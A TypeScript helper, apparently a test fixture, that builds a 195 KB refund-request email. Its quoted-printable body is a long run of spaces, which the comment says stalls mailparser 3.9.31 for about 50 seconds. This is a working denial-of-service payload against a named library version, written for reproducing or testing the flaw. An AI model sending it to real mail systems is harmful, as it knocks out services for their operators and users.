/**
 * A harmless-looking mail of 195 KB that holds mailparser 3.9.31 for about 50 seconds: its quoted-printable decoder
 * looks for blanks at the end of a line from each blank of the run anew, and the run does not end the line.
 */
export function poisonMail(): Buffer {
  const header = [
    'From: Ada <ada@example.com>',
    'To: refunds@imaginator.com',
    'Subject: Refund request',
    'Message-ID: <poison@mail.example.com>',
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: quoted-printable',
  ];
  return Buffer.from(`${header.join('\r\n')}\r\n\r\n${' '.repeat(195 * 1024)}x\r\n`);
}
